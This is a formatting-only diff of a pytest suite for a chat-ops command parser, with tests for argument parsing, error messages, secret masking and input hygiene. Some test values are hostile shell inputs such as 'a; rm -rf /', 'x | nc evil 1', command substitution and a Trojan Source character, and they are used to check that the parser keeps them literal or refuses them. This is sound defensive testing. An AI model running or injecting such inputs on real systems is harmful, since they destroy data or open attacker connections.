@@ -69,11 +69,11 @@ def refused(text: str, catalog: Catalog) -> ParseError:
 
 # --- what works --------------------------------------------------------------------------
 
+
 def test_positional_args_fill_in_order_and_defaults_apply(catalog: Catalog) -> None:
     inv = run("deploy api-gateway staging", catalog)
     assert inv.name == "deploy"
-    assert dict(inv.args) == {"service": "api-gateway", "env": "staging", "version": "latest",
-                              "force": False}
+    assert dict(inv.args) == {"service": "api-gateway", "env": "staging", "version": "latest", "force": False}
     assert inv.principal == ALICE and inv.place == OPS
     assert inv.raw_text == "deploy api-gateway staging"
 
@@ -99,21 +99,30 @@ def test_keys_may_come_before_positionals(catalog: Catalog) -> None:
     assert (inv.args["service"], inv.args["env"]) == ("search", "dev")
 
 
-@pytest.mark.parametrize("text, expected", [
-    ("deploy search dev --force", True),
-    ("deploy search dev --no-force", False),
-    ("deploy search dev force=true", True),
-    ("deploy search dev force=no", False),
-    ("deploy search dev --force=yes", True),
-])
+@pytest.mark.parametrize(
+    "text, expected",
+    [
+        ("deploy search dev --force", True),
+        ("deploy search dev --no-force", False),
+        ("deploy search dev force=true", True),
+        ("deploy search dev force=no", False),
+        ("deploy search dev --force=yes", True),
+    ],
+)
 def test_bool_spellings(catalog: Catalog, text: str, expected: bool) -> None:
     assert run(text, catalog).args["force"] is expected
 
 
-@pytest.mark.parametrize("text", [
-    "deploy search dev --version v2", "deploy search dev --version=v2", "deploy search dev version=v2",
-    "deploy search dev v2", "deploy search dev 'v2'",
-])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "deploy search dev --version v2",
+        "deploy search dev --version=v2",
+        "deploy search dev version=v2",
+        "deploy search dev v2",
+        "deploy search dev 'v2'",
+    ],
+)
 def test_value_spellings(catalog: Catalog, text: str) -> None:
     assert run(text, catalog).args["version"] == "v2"
 
@@ -149,6 +158,7 @@ def test_trailing_newline_is_stripped(catalog: Catalog) -> None:
 
 # --- shell metacharacters are just characters ----------------------------------------------
 
+
 @pytest.mark.parametrize("value", ["$(id)", "`id`", "a; rm -rf /", "x | nc evil 1", "&& reboot", "${HOME}"])
 def test_shell_metacharacters_stay_literal_in_a_patternless_string(catalog: Catalog, value: str) -> None:
     inv = run(f"say '{value}'", catalog)
@@ -167,6 +177,7 @@ def test_unquoted_semicolon_is_part_of_the_value_not_a_separator(catalog: Catalo
 
 
 # --- errors that say what is allowed --------------------------------------------------------
+
 
 def test_unknown_command_suggests_the_closest(catalog: Catalog) -> None:
     err = refused("deplyo api staging", catalog)
@@ -257,6 +268,7 @@ def test_empty_value_is_refused(catalog: Catalog) -> None:
 
 # --- input hygiene ------------------------------------------------------------------------
 
+
 def test_ten_thousand_character_argument_is_refused_clearly(catalog: Catalog) -> None:
     err = refused("say " + "a" * 10_000, catalog)
     assert str(err) == "message too long (10,004 characters; at most 2,000)"
@@ -267,16 +279,19 @@ def test_argument_over_its_max_length_is_refused(catalog: Catalog) -> None:
     assert str(err) == "`text` is too long (300 characters; at most 200)"
 
 
-@pytest.mark.parametrize("text", [
-    "deploy search dev\nrm -rf /",
-    "deploy search dev\rnext",
-    "say hello\x00world",
-    "say hello\x1b[31mred",
-    "say \u202eevil",   # right-to-left override (Trojan Source)
-    "say zero\u200bwidth",
-    "deploy search dev\u2028v2",
-    "say tab\there",
-])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "deploy search dev\nrm -rf /",
+        "deploy search dev\rnext",
+        "say hello\x00world",
+        "say hello\x1b[31mred",
+        "say \u202eevil",  # right-to-left override (Trojan Source)
+        "say zero\u200bwidth",
+        "deploy search dev\u2028v2",
+        "say tab\there",
+    ],
+)
 def test_control_and_invisible_characters_are_refused(catalog: Catalog, text: str) -> None:
     err = refused(text, catalog)
     assert "not allowed" in str(err) and "position" in str(err)
@@ -302,6 +317,7 @@ def test_long_echoed_values_are_shortened_and_backticks_neutralised(catalog: Cat
 
 # --- secrets ------------------------------------------------------------------------------
 
+
 def test_secret_values_are_masked_in_raw_text_and_never_echoed(catalog: Catalog) -> None:
     inv = run("login token=abcd1234", catalog)
     assert inv.args["token"] == "abcd1234"
@@ -316,10 +332,10 @@ def test_secret_values_are_masked_in_raw_text_and_never_echoed(catalog: Catalog)
 
 # --- engine flags -------------------------------------------------------------------------
 
+
 def test_engine_flags_with_values(catalog: Catalog) -> None:
     flags = {"dry-run": bool, "break-glass": str, "change": str}
-    inv = run('deploy search dev --break-glass "db is down" --change=CHG0012345', catalog,
-              engine_flags=flags)
+    inv = run('deploy search dev --break-glass "db is down" --change=CHG0012345', catalog, engine_flags=flags)
     assert dict(inv.flags) == {"break_glass": "db is down", "change": "CHG0012345"}
     with pytest.raises(ParseError, match="needs a value"):
         run("deploy search dev --change", catalog, engine_flags=flags)
@@ -334,8 +350,12 @@ def test_unknown_list_at_parse_time_is_a_clear_error() -> None:
         raise RuntimeError("backend down")
 
     lists.register("clusters", boom)
-    spec = CommandSpec("use", summary="x", args=(arg("cluster", ArgType.CHOICE, choices_from="clusters"),),
-                       runner=RunnerSpec("exec", {"argv": ["x"]}))
+    spec = CommandSpec(
+        "use",
+        summary="x",
+        args=(arg("cluster", ArgType.CHOICE, choices_from="clusters"),),
+        runner=RunnerSpec("exec", {"argv": ["x"]}),
+    )
     catalog = Catalog([spec], lists)
     with pytest.raises(ParseError, match="`clusters` list is unavailable"):
         parse("use prod", catalog, ALICE, OPS)
@@ -343,25 +363,40 @@ def test_unknown_list_at_parse_time_is_a_clear_error() -> None:
 
 # --- extract ------------------------------------------------------------------------------
 
-@pytest.mark.parametrize("text, expected", [
-    ("/deploy x", "deploy x"),
-    ("!deploy x", "deploy x"),
-    ("@opsroom deploy x", "deploy x"),
-    ("@OpsRoom: deploy x", "deploy x"),
-    ("opsroom: deploy x", "deploy x"),
-    ("opsroom, deploy x", "deploy x"),
-    ("  /deploy x\n", "deploy x"),
-    ("／deploy x", "deploy x"),  # full-width slash
-    ("@opsroom", ""),
-])
+
+@pytest.mark.parametrize(
+    "text, expected",
+    [
+        ("/deploy x", "deploy x"),
+        ("!deploy x", "deploy x"),
+        ("@opsroom deploy x", "deploy x"),
+        ("@OpsRoom: deploy x", "deploy x"),
+        ("opsroom: deploy x", "deploy x"),
+        ("opsroom, deploy x", "deploy x"),
+        ("  /deploy x\n", "deploy x"),
+        ("／deploy x", "deploy x"),  # full-width slash
+        ("@opsroom", ""),
+    ],
+)
 def test_extract_finds_commands(text: str, expected: str) -> None:
     assert extract(text, addressed=False) == expected
 
 
-@pytest.mark.parametrize("text", [
-    "deploy x", "I will deploy later", "opsroom is slow today", "@opsroomfan hi",
-    "/usr/bin is full", "! not a command", "/ ", "", "what about /deploy?", "!!!",
-])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "deploy x",
+        "I will deploy later",
+        "opsroom is slow today",
+        "@opsroomfan hi",
+        "/usr/bin is full",
+        "! not a command",
+        "/ ",
+        "",
+        "what about /deploy?",
+        "!!!",
+    ],
+)
 def test_extract_ignores_plain_chat(text: str) -> None:
     assert extract(text, addressed=False) is None
 
@@ -388,15 +423,22 @@ def test_text_that_grows_under_nfkc_is_still_capped(catalog: Catalog) -> None:
 
 # --- greedy arguments ---------------------------------------------------------------------
 
+
 def greedy_catalog() -> Catalog:
-    audit = CommandSpec("audit", summary="Search", builtin=True,
-                        args=(arg("query", required=False, greedy=True, max_length=50),))
-    deny = CommandSpec("deny", summary="Deny", builtin=True,
-                       args=(arg("id", ArgType.INT, min=1),
-                             arg("reason", required=False, greedy=True),
-                             arg("notify", ArgType.BOOL, default=True),
-                             arg("level", ArgType.ENUM, values=("low", "high"), required=False,
-                                 positional=False)))
+    audit = CommandSpec(
+        "audit", summary="Search", builtin=True, args=(arg("query", required=False, greedy=True, max_length=50),)
+    )
+    deny = CommandSpec(
+        "deny",
+        summary="Deny",
+        builtin=True,
+        args=(
+            arg("id", ArgType.INT, min=1),
+            arg("reason", required=False, greedy=True),
+            arg("notify", ArgType.BOOL, default=True),
+            arg("level", ArgType.ENUM, values=("low", "high"), required=False, positional=False),
+        ),
+    )
     return Catalog([audit, deny], ChoiceLists())
 
 
@@ -404,7 +446,7 @@ def test_greedy_argument_takes_the_remaining_words() -> None:
     catalog = greedy_catalog()
     assert run("audit rollback since last tuesday", catalog).args == {"query": "rollback since last tuesday"}
     assert run("audit", catalog).args == {}
-    inv = run('deny 42 not during the sale --no-notify level=high', catalog)
+    inv = run("deny 42 not during the sale --no-notify level=high", catalog)
     assert inv.args == {"id": 42, "reason": "not during the sale", "notify": False, "level": "high"}
     assert run('deny 42 "not during the sale"', catalog).args["reason"] == "not during the sale"
 
